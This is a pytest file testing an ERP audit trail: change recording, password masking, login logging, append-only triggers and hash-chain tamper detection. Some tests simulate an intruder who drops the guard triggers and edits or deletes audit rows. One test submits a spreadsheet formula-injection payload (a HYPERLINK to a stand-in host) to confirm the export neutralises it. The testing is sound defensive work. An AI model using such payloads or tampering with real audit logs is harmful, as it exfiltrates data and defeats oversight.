"""The audit trail records every write, is append-only, and detects tampering."""
import json

import pytest
import sqlalchemy as sa
from conftest import login, post_form

from erp.audit import services as audit
from erp.audit.models import AuditEntry
from erp.auth import services
from erp.extensions import db


def entries(app, **where):
    with app.app_context():
        query = sa.select(AuditEntry).order_by(AuditEntry.seq)
        for key, value in where.items():
            query = query.where(getattr(AuditEntry, key) == value)
        return [(e.action, e.entity, e.actor, json.loads(e.before or "null"), json.loads(e.after or "null"))
                for e in db.session.execute(query).scalars()]


def test_a_change_through_the_web_records_who_what_before_and_after(app, client, make_user):
    make_user("admin", roles=["sysadmin"])
    with app.app_context():
        dept_id = services.save_department(None, code="WS", name="상수도사업소").id
    login(client, "admin")
    post_form(client, f"/admin/departments/{dept_id}", {"code": "WS", "name": "상수도사업본부", "parent_id": "", "active": "y"})
    updates = entries(app, action="update", entity="core_department")
    assert updates == [("update", "core_department", "admin", {"name": "상수도사업소"}, {"name": "상수도사업본부"})]


def test_creating_a_user_is_recorded_without_the_password_hash(app, make_user):
    make_user("kim", roles=["auditor"])
    created = [e for e in entries(app, action="create", entity="core_user")]
    assert len(created) == 1
    after = created[0][4]
    assert after["username"] == "kim" and after["password_hash"] == "***"
    assert after["name"] == "kim"


def test_logins_and_failures_are_recorded(app, client, make_user):
    make_user("kim", roles=["auditor"])
    login(client, "kim", "Wrong-password-9")
    login(client, "kim")
    actions = [e[0] for e in entries(app, entity="core_user") if e[0].startswith("login")]
    assert actions == ["login_failed", "login"]


def test_the_chain_verifies_when_untouched(app, runner, make_user):
    make_user("kim", roles=["auditor"])
    result = runner.invoke(args=["erp", "audit-verify"])
    assert result.exit_code == 0
    assert "Audit trail intact" in result.output


def _drop_guard(conn):
    """What an intruder with database rights does first: remove the append-only triggers."""
    for name in ("core_audit_log_no_update", "core_audit_log_no_delete"):
        conn.execute(sa.text(f"DROP TRIGGER IF EXISTS {name}"))


def _restore_guard(app):
    from migrations_support import create_audit_triggers

    with app.app_context(), db.engine.begin() as conn:
        create_audit_triggers(conn)


def _populate(app):
    with app.app_context():
        for i in range(5):
            services.save_department(None, code=f"D{i}", name=f"부서{i}")
        return db.session.execute(sa.select(sa.func.max(AuditEntry.seq))).scalar_one()


def test_an_altered_row_is_detected_at_that_row(app, runner):
    last = _populate(app)
    target = last - 2
    with app.app_context(), db.engine.begin() as conn:
        _drop_guard(conn)
        conn.execute(sa.text("UPDATE core_audit_log SET summary = 'nothing happened' WHERE seq = :s"), {"s": target})
    try:
        result = runner.invoke(args=["erp", "audit-verify"])
        assert result.exit_code == 1
        assert f"BROKEN at record {target}" in result.output and "altered" in result.output
    finally:
        _restore_guard(app)


def test_a_deleted_row_is_detected(app, runner):
    last = _populate(app)
    target = last - 1
    with app.app_context(), db.engine.begin() as conn:
        _drop_guard(conn)
        conn.execute(sa.text("DELETE FROM core_audit_log WHERE seq = :s"), {"s": target})
    try:
        result = runner.invoke(args=["erp", "audit-verify"])
        assert result.exit_code == 1
        assert f"BROKEN at record {target}" in result.output and "missing" in result.output
    finally:
        _restore_guard(app)


def test_removing_the_newest_rows_is_detected(app, runner):
    last = _populate(app)
    with app.app_context(), db.engine.begin() as conn:
        _drop_guard(conn)
        conn.execute(sa.text("DELETE FROM core_audit_log WHERE seq = :s"), {"s": last})
    try:
        result = runner.invoke(args=["erp", "audit-verify"])
        assert result.exit_code == 1 and f"BROKEN at record {last}" in result.output
    finally:
        _restore_guard(app)


def test_the_database_refuses_to_change_or_delete_audit_rows(app):
    _populate(app)
    with app.app_context():
        with pytest.raises(sa.exc.DatabaseError), db.engine.begin() as conn:
            conn.execute(sa.text("UPDATE core_audit_log SET summary = 'x' WHERE seq = 1"))
        with pytest.raises(sa.exc.DatabaseError), db.engine.begin() as conn:
            conn.execute(sa.text("DELETE FROM core_audit_log WHERE seq = 1"))


def test_the_orm_refuses_to_change_audit_rows(app):
    _populate(app)
    with app.app_context():
        entry = db.session.get(AuditEntry, 1)
        entry.summary = "edited"
        with pytest.raises(PermissionError):
            db.session.commit()
        db.session.rollback()


def test_explicit_records_chain_with_automatic_ones(app):
    with app.app_context():
        with audit.acting_as(None, "batch"):
            audit.record("export", "report", "TB-2026", "trial balance exported")
            services.save_department(None, code="E1", name="수출부서")
        assert audit.verify().ok
    rows = entries(app)
    assert ("export", "report", "batch", None, None) in rows


def test_the_audit_page_searches_by_object(app, client, make_user):
    make_user("admin", roles=["sysadmin"])
    _populate(app)
    login(client, "admin")
    html = client.get("/admin/audit/?entity=core_department").get_data(as_text=True)
    assert "부서3" in html and "core_department" in html
    bad = client.get("/admin/audit/?from=2026-13-45").get_data(as_text=True)
    assert "YYYY-MM-DD" in bad
    export = client.get("/admin/audit/export.xlsx?entity=core_department")
    assert export.status_code == 200 and export.data[:2] == b"PK"


def test_a_change_rolled_back_after_it_was_written_leaves_no_record(app):
    from erp.auth.models import Department

    with app.app_context():
        db.session.add(Department(code="GHOST", name="유령부서"))
        db.session.flush()  # written to the database, and captured for the audit trail
        db.session.rollback()
        services.save_department(None, code="REAL", name="실제부서")
    summaries = [e[4]["code"] for e in entries(app, entity="core_department")]
    assert summaries == ["REAL"]


def test_a_rolled_back_savepoint_takes_its_records_with_it(app):
    from erp.auth.models import Department

    with app.app_context():
        db.session.add(Department(code="REAL", name="실제부서"))
        nested = db.session.begin_nested()
        db.session.add(Department(code="GHOST", name="유령부서"))
        db.session.flush()
        nested.rollback()
        db.session.commit()
        assert audit.verify().ok
    assert [e[4]["code"] for e in entries(app, entity="core_department")] == ["REAL"]


def test_typed_text_is_never_a_formula_in_the_excel_export(app, client, make_user):
    from io import BytesIO

    from openpyxl import load_workbook

    make_user("admin", roles=["sysadmin"])
    login(app.test_client(), '=HYPERLINK("http://x.example/?"&B8,"open")', "Wrong-password-1")
    login(client, "admin")
    data = client.get("/admin/audit/export.xlsx?action=login_failed").data
    ws = load_workbook(BytesIO(data)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)
    assert entries(app, action="export")  # the export itself is on the record
